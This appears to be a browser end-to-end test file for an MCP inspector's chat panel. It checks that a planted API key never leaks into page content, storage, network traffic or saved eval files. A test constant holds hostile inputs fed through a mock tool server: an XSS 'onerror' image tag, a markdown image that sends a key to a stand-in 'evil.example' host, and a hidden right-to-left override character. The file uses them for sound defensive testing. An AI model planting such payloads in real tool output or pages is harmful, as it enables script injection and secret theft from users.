// The chat in Chromium with a mock model: the key of the model is looked for in everything that the page has, sends and gets.

import { mkdtempSync, rmSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer, tool } from 'fullmcp';
import { type MockModel, type ModelScript, mockModel } from 'fullmcp/testing';
import type { Page } from 'playwright-core';
import { afterAll, expect, onTestFinished, test, vi } from 'vitest';
import { z } from 'zod';
import { serve } from '../../../src/node.js';
import { describeInChromium } from '../../browser/chromium.js';
import { fullmcp } from '../../cli/support/run-cli.js';
import { loadAxe, violations } from './support/axe.js';
import { place } from './support/find.js';
import { usePage } from './support/world.js';

const KEY = 'planted-key-of-the-user-e07b';
const folder = mkdtempSync(join(tmpdir(), 'fullmcp-chat-'));
const casesFile = join(folder, 'evals.chat.json');
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const HOSTILE = '<img src=x onerror=alert(1)> ![x](https://evil.example/?key) \u202eevil';

/** `leaked` is a secret that the server repeats. */
const shop = (leaked = KEY) =>
  createServer({
    name: 'shop',
    version: '1.0.0',
    logger: () => undefined,
    tools: {
      bill: tool({
        description: `Bills. ${HOSTILE}`,
        input: z.object({ amount: z.number(), note: z.string().optional() }),
        run: ({ amount }) => `Billed ${amount}. THE_KEY=${leaked} ${HOSTILE}`,
      }),
      quote: tool({ run: () => 'quoted' }),
      close: tool({
        run: async (_input, ctx) => {
          const { sure } = await ctx.ask('sure', {
            message: 'Close it?',
            schema: z.object({ sure: z.boolean() }),
          });
          return sure ? 'closed' : 'open';
        },
      }),
      report: tool({ task: 'required', run: async (_input, ctx) => ctx.step('count', () => '1,240 euros') }),
    },
  });

/** Makes these calls, one after the other, and then says something. */
function scriptOf(steps: readonly string[], last: string): ModelScript {
  return ({ body }) => {
    const done = JSON.stringify(body).split('"tool_result"').length - 1;
    const name = steps[done];
    if (name === undefined) return last;
    const args = name === 'bill' ? { amount: 30, note: '\u202eevil' } : {};
    return { say: `Step ${done + 1}.`, calls: [{ name, args }] };
  };
}

async function modelOf(own: ModelScript): Promise<MockModel> {
  vi.stubEnv('CHAT_API_KEY', KEY);
  const model = await mockModel(own, { key: KEY });
  onTestFinished(() => model.close());
  return model;
}

/** Begins a chat in the page. */
async function begin(page: Page, model: MockModel): Promise<void> {
  await place(page).getByLabel('Model', { exact: true }).fill(`anthropic:mock@${model.url}`);
  await place(page)
    .getByLabel(/^Variable of the key/)
    .fill('CHAT_API_KEY');
  await place(page).getByRole('button', { name: 'Begin' }).click();
  await place(page).getByLabel('Your message').waitFor();
}

async function say(page: Page, text: string): Promise<void> {
  await place(page).getByLabel('Your message').fill(text);
  await page.keyboard.press('Control+Enter');
}

const callOf = (page: Page, name: string) => place(page).getByRole('article', { name: `Call of ${name}` });

describeInChromium('the chat with a model', () => {
  const world = usePage({ casesFile });

  test('approves, declines, answers a question, runs a task and saves a case, and the key is nowhere', async () => {
    const model = await modelOf(
      scriptOf(['bill', 'quote', 'close', 'report'], `All done. ${HOSTILE} ${KEY}`),
    );
    await world.connect(shop());
    const page = await world.visit('#/chat');
    const traffic: string[] = [];
    page.on('request', (request) => traffic.push(request.url(), request.postData() ?? ''));
    page.on('response', (response) => {
      if (!response.url().includes('/api/events'))
        void response.text().then(
          (text) => traffic.push(text),
          () => undefined,
        );
    });
    await begin(page, model);
    await say(page, 'Do it all');

    const bill = callOf(page, 'bill');
    await bill.getByRole('button', { name: 'Call it' }).waitFor();
    // The arguments are shown as they are sent, with the characters that nobody would see.
    expect(await bill.getByLabel('Arguments').textContent()).toContain('\\u202eevil');
    await loadAxe(page);
    expect(await violations(page)).toEqual([]);
    await bill.getByRole('button', { name: 'Call it' }).click();
    await callOf(page, 'quote').getByRole('button', { name: 'Decline' }).click();
    await callOf(page, 'quote').getByText('declined', { exact: true }).waitFor();
    await callOf(page, 'close').getByRole('button', { name: 'Call it' }).click();
    await callOf(page, 'close').getByRole('radio', { name: 'Yes' }).check();
    await callOf(page, 'close')
      .getByRole('button', { name: /^Answer/ })
      .click();
    await callOf(page, 'report').getByRole('button', { name: 'Call it' }).click();
    await place(page)
      .getByText(/^All done/)
      .waitFor();
    expect(world.storiesOf('bill').at(-1)?.args).toEqual({ amount: 30, note: '\u202eevil' });
    expect(world.storiesOf('report').at(-1)?.task?.status).toBe('completed');
    expect(world.storiesOf('quote')).toEqual([]);
    await place(page)
      .getByText(/\d+ of 200000 tokens/)
      .waitFor();
    // The words of models and servers are text.
    expect(await place(page).locator('img').count()).toBe(0);
    expect(await place(page).locator('.chat-entries a[href^="http"]').count()).toBe(0);

    await place(page).getByRole('button', { name: 'Save as a case for evals' }).click();
    const dialog = page.getByRole('dialog', { name: 'Save as a case' });
    await dialog.getByText('"bill"').waitFor();
    expect(await violations(page)).toEqual([]);
    await dialog.getByRole('button', { name: 'Save in evals.chat.json' }).click();
    await dialog.waitFor({ state: 'hidden' });
    const saved = await readFile(casesFile, 'utf8');
    expect(JSON.parse(saved)).toMatchObject({
      cases: [
        {
          ask: 'Do it all',
          expect: [{ tool: 'bill', args: { amount: 30 } }, { tool: 'close' }, { tool: 'report' }],
          not: ['quote'],
          asks: { sure: { sure: true } },
        },
      ],
    });

    const kept = await page.evaluate(() =>
      JSON.stringify([
        document.documentElement.outerHTML,
        location.href,
        document.cookie,
        { ...localStorage },
        { ...sessionStorage },
      ]),
    );
    const { inspector } = world;
    const seen = [kept, saved, ...traffic, JSON.stringify(inspector.snapshot())];
    seen.push(JSON.stringify(inspector.eventsAfter(0) ?? []));
    for (const { id } of inspector.snapshot().connections) seen.push(inspector.tape(id) ?? '');
    for (const { seq } of inspector.snapshot().messages) seen.push(inspector.message(seq)?.text ?? '');
    for (const { id } of inspector.snapshot().stories)
      seen.push(inspector.outcome(id) ?? '', inspector.share(id) ?? '');
    for (const text of seen) expect(text).not.toContain(KEY);
    // The model was asked with the key, so that all of this was worth looking for.
    expect(model.requests[0]?.headers['x-api-key']).toBe(KEY);
    expect(JSON.stringify(model.requests.map(({ body }) => body))).not.toContain(KEY);

    // The case runs with the command: asked once, and then replayed without a model.
    const again = await mockModel(scriptOf(['bill', 'close', 'report'], 'All done.'));
    onTestFinished(() => again.close());
    const serving = await serve(shop('none'), { port: 0, signals: false });
    onTestFinished(() => serving.close());
    const report = join(folder, 'report.html');
    const line = ['eval', casesFile, serving.url];
    const asked = [...line, '--record', '--runs', '1', '--model', `anthropic:mock@${again.url}`];
    const recorded = await fullmcp([...asked, '--html', report]);
    expect([recorded.exit, recorded.stderr]).toEqual([0, expect.stringContaining('1 ok, 0 failed')]);
    const replayed = await fullmcp(line);
    expect([replayed.exit, again.requests.length]).toEqual([0, 4]);
    const tapes = join(folder, 'evals.chat.tapes');
    const files = [report, ...(await readdir(tapes)).map((name) => join(tapes, name))];
    expect(files).toHaveLength(2);
    for (const file of files) expect(await readFile(file, 'utf8')).not.toContain(KEY);
    for (const { stdout, stderr } of [recorded, replayed]) expect(stdout + stderr).not.toContain(KEY);
  });

  test('stops a model that is silent, and is a chat of its own for each server', async () => {
    const model = await modelOf([{ hang: true }, 'Back.']);
    await world.connect(shop());
    const page = await world.visit('#/chat');
    await begin(page, model);
    await say(page, 'Hang');
    await expect.poll(() => model.requests.length).toBe(1);
    await place(page).getByRole('button', { name: 'Stop' }).click();
    await place(page).getByText('You stopped the model.').waitFor();
    await say(page, 'Again');
    await place(page).getByText('Back.').waitFor();
    await place(page).getByRole('button', { name: 'New chat' }).click();
    await place(page).getByRole('button', { name: 'Begin' }).waitFor();
  });

  test('says what to do where there is no key', async () => {
    await world.connect(shop());
    const page = await world.visit('#/chat');
    await place(page).getByLabel('Model', { exact: true }).fill('openai-chat:m@https://models.invalid');
    await place(page)
      .getByLabel(/^Variable of the key/)
      .fill('NOT_SET_API_KEY');
    await place(page).getByRole('button', { name: 'Begin' }).click();
    await place(page)
      .getByText(/Set the environment variable NOT_SET_API_KEY\. Then start the inspector again/)
      .waitFor();
  });
});
